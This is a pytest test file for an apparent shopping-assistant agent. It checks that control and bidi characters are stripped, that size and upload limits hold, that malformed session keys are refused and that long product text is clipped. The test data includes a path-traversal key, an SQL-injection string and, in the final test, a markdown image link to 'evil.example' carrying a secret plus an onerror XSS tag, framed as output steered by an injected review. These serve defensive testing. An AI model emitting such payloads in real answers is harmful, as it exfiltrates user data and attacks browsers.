"""What text goes in and comes out: control and direction characters, sizes, session keys, long catalog text."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator

import pytest
from PIL import Image
from sqlalchemy import select
from typer.testing import CliRunner

from agent.conversation import Conversation, UserMessage
from agent.loop import Agent, AgentError
from agent.planners import Reply
from agent.steps import AnswerStep, ToolCall, ToolResult, UserStep
from agent.tools import ToolContext, run_tool
from index import models as m
from shopagent.cli import app

UNSAFE = ("\x00", "\u202e", "\u202d", "\u2066", "\x1b", "\x07")
runner = CliRunner()


class Saying:
    """A planner that answers every turn with the same words."""

    name = "saying"

    def __init__(self, text: str) -> None:
        self.text = text

    def step(self, conv: Conversation, system: str, tools: list[dict]) -> Iterator[Reply]:
        yield Reply(self.text)


def stored(agent: Agent, key: str) -> list[tuple[str, str]]:
    """(role, content) of each message the store holds for the conversation."""
    with agent.services.store.session() as s:
        row = s.scalars(select(m.Conversation).where(m.Conversation.session_key == key)).first()
        if row is None:
            return []
        return [(msg.role, msg.content) for msg in s.scalars(select(m.Message).where(
            m.Message.conversation_id == row.id).order_by(m.Message.id))]


def stored_calls(agent: Agent, key: str) -> list[tuple[str, dict, dict | None]]:
    with agent.services.store.session() as s:
        row = s.scalars(select(m.Conversation).where(m.Conversation.session_key == key)).one()
        return [(c.name, c.arguments, c.result) for msg in row.messages for c in msg.tool_calls]


def clean(text: str) -> bool:
    return not any(ch in text for ch in UNSAFE)


def strings(value: object) -> Iterator[str]:
    """Every string in a stream item (its fields, nested dicts and lists, keys too), unescaped."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        value = dataclasses.asdict(value)
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from strings(k)
            yield from strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from strings(v)


def env(shop) -> dict[str, str]:  # noqa: ANN001
    return {"SHOPAGENT_DATA_DIR": str(shop.data_dir), "SHOPAGENT_PLANNER_BACKEND": "rules", "COLUMNS": "200"}


# ------------------------------------------------------------ control and direction characters


def test_nul_and_direction_overrides_are_not_stored_or_echoed(shop_agent: Agent) -> None:
    conv = shop_agent.open("shopper", None)
    text = "show me\x00 red \u202edresses\u202c under 90\x1b[2J"
    events = list(shop_agent.respond(conv, UserMessage(text)))
    assert isinstance(events[-1], AnswerStep)
    calls = [e.arguments for e in events if isinstance(e, ToolCall)]
    assert calls and calls[0]["query"] == "show me red dresses under 90[2J"  # the words kept, the controls gone
    assert isinstance(events[0], UserStep) and events[0].text == "show me red dresses under 90[2J"
    assert all(clean(text) for e in events for text in strings(e))
    rows = stored(shop_agent, conv.key)
    assert rows[0] == ("user", "show me red dresses under 90[2J")
    assert all(clean(content) for _, content in rows)
    assert all(clean(str(args)) for _, args, _ in stored_calls(shop_agent, conv.key))
    assert all(clean(msg.get("content") or "") for msg in conv.messages)


def test_a_planners_answer_is_cleaned_before_it_is_shown_or_stored(shop_agent: Agent) -> None:
    agent = Agent(shop_agent.services, Saying("Here you are\x00 \u202eyad ecin a\u202c \u2066ok\u2069\x07"))
    conv = agent.open("shopper", None)
    final = list(agent.respond(conv, UserMessage("hi")))[-1]
    assert isinstance(final, AnswerStep) and final.text == "Here you are yad ecin a ok"
    assert stored(agent, conv.key)[-1] == ("assistant", "Here you are yad ecin a ok")


def test_a_message_of_only_control_characters_is_empty(shop_agent: Agent) -> None:
    conv = shop_agent.open("shopper", None)
    with pytest.raises(AgentError, match="empty"):
        list(shop_agent.respond(conv, UserMessage("\x00\u202e\x1b \u2066")))
    assert conv.steps == [] and conv.messages == [] and stored(shop_agent, conv.key) == []


# ------------------------------------------------------------ sizes


def test_a_message_over_the_limit_is_refused(shop_agent: Agent) -> None:
    limit = shop_agent.settings.message_max_chars
    conv = shop_agent.open("shopper", None)
    with pytest.raises(AgentError) as refused:
        list(shop_agent.respond(conv, UserMessage("x" * (limit + 1))))
    message = str(refused.value)
    assert "message_max_chars" in message and f"{limit:,}" in message and len(message) < 200
    assert "x" * 20 not in message  # the text is not echoed back
    assert conv.steps == [] and conv.messages == [] and stored(shop_agent, conv.key) == []


def test_a_message_at_the_limit_is_answered(shop_agent: Agent) -> None:
    limit = shop_agent.settings.message_max_chars
    agent = Agent(shop_agent.services, Saying("Read it all."))
    conv = agent.open("shopper", None)
    text = ("tell me more " * limit)[:limit - 1] + "."
    assert len(text) == limit
    assert list(agent.respond(conv, UserMessage(text + "\x00" * 50)))[-1].text == "Read it all."
    assert stored(agent, conv.key)[0] == ("user", text)


def photos(n: int) -> list[Image.Image]:
    return [Image.new("RGB", (96, 128), (40 + 20 * i, 90, 200 - 15 * i)) for i in range(n)]


def test_too_many_photos_are_refused_before_any_is_kept(shop_agent: Agent) -> None:
    most = shop_agent.settings.upload_max_files
    folder = shop_agent.services.photos.folder
    before = sorted(folder.glob("*")) if folder.is_dir() else []
    conv = shop_agent.open("shopper", None)
    with pytest.raises(AgentError) as refused:
        list(shop_agent.respond(conv, UserMessage("like these", photos(most + 1))))
    message = str(refused.value)
    assert f"{most + 1} photos" in message and "upload_max_files" in message
    assert conv.images == {} and conv.steps == [] and conv.messages == [] and stored(shop_agent, conv.key) == []
    assert (sorted(folder.glob("*")) if folder.is_dir() else []) == before


def test_the_most_photos_allowed_are_taken(shop_agent: Agent) -> None:
    most = shop_agent.settings.upload_max_files
    agent = Agent(shop_agent.services, Saying("Nice photos."))
    conv = agent.open("shopper", None)
    events = list(agent.respond(conv, UserMessage("like these", photos(most))))
    assert isinstance(events[0], UserStep) and len(events[0].photo_ids) == most and len(conv.images) == most


# ------------------------------------------------------------ session keys

BAD_KEYS = ["x" * 100, "../../etc", "0123456789ABCDEF", "0123456789abcdef0", "0123456789abcde", "0123456789abcdeg",
            "0123456789abcdef\n", "' OR 1=1 --"]


@pytest.mark.parametrize("key", BAD_KEYS, ids=["100 x", "path", "upper case", "17", "15", "not hex", "newline",
                                              "sql"])
def test_a_malformed_session_key_is_refused(shop_agent: Agent, key: str) -> None:
    with pytest.raises(AgentError, match="not a session key") as refused:
        shop_agent.open("shopper", None, key)
    message = str(refused.value)
    assert "x" * 100 not in message and len(message) < 250 and "\n" not in message
    with shop_agent.services.store.session() as s:
        assert s.scalars(select(m.Conversation).where(m.Conversation.session_key == key)).first() is None


def test_a_well_formed_key_is_taken(shop_agent: Agent) -> None:
    conv = shop_agent.open("shopper", None, "00112233aabbccdd")
    assert conv.key == "00112233aabbccdd"
    assert shop_agent.open("shopper", None, "00112233aabbccdd").key == conv.key


@pytest.mark.parametrize("key", ["x" * 100, "../../etc"], ids=["100 x", "path"])
def test_the_cli_refuses_a_malformed_session_key_on_one_line(shop, key: str) -> None:  # noqa: ANN001
    result = runner.invoke(app, ["chat", "--session", key, "-m", "hi"], env=env(shop))
    assert result.exit_code == 1
    out = result.output
    errors = [line for line in out.splitlines() if "error" in line]
    assert len(errors) == 1 and "not a session key" in errors[0] and errors[0] == out.strip().splitlines()[-1]
    assert "Traceback" not in out and "x" * 100 not in out and "session " + key not in out


# ------------------------------------------------------------ long catalog text


def test_a_huge_description_is_clipped(shop_agent: Agent, monkeypatch: pytest.MonkeyPatch) -> None:
    table = shop_agent.services.table
    row = table.rows[0]
    huge = ("Soft \u202ecotton\x00 jersey. " + "lorem ipsum dolor sit amet " * 200_000)[:5_000_000]
    monkeypatch.setitem(table.by_id, row.id, dataclasses.replace(row, description=huge))
    ctx = ToolContext(shop_agent.services, "shopper", None, "0123456789abcdef", {}, user_text="tell me about it")
    outcome = run_tool("get_product", {"product_id": row.id}, ctx)
    assert outcome.ok, outcome.error
    description = outcome.result["product"]["description"]
    assert 1000 < len(description) <= 1502 and description.endswith("…")
    assert description.startswith("Soft cotton jersey.") and clean(description)
    # through the chat loop: neither the answer nor what is stored carries the whole text
    conv = shop_agent.open("shopper", None)
    events = list(shop_agent.respond(conv, UserMessage(f"tell me more about #{row.id}")))
    results = [e.result for e in events if isinstance(e, ToolResult) and e.name == "get_product"]
    assert results and len(results[0]["product"]["description"]) <= 1502
    assert isinstance(events[-1], AnswerStep) and len(events[-1].text) < 20_000
    stored_results = [r for name, _, r in stored_calls(shop_agent, conv.key) if name == "get_product"]
    assert stored_results and len(str(stored_results[0])) < 50_000


def test_answers_carry_no_images_links_or_html(shop_agent: Agent) -> None:
    """A model's answer (say, one an injected review steered) cannot make the browser fetch a URL."""
    from agent.text import inert_markup

    text = ("Here you go. ![x](https://evil.example/p.png?d=secret) [click](https://evil.example/?q=1) "
            "<https://evil.example/a> <img src=x onerror=alert(1)> Try [#12].")
    clean = inert_markup(text)
    assert "evil.example/p.png" not in clean and "](" not in clean and "<img" not in clean
    assert "click" in clean and "[#12]" in clean
    agent = Agent(shop_agent.services, Saying(text))
    final = list(agent.respond(agent.open(), UserMessage("hello")))[-1]
    assert "evil.example/p.png" not in final.text and "<img" not in final.text and "](http" not in final.text
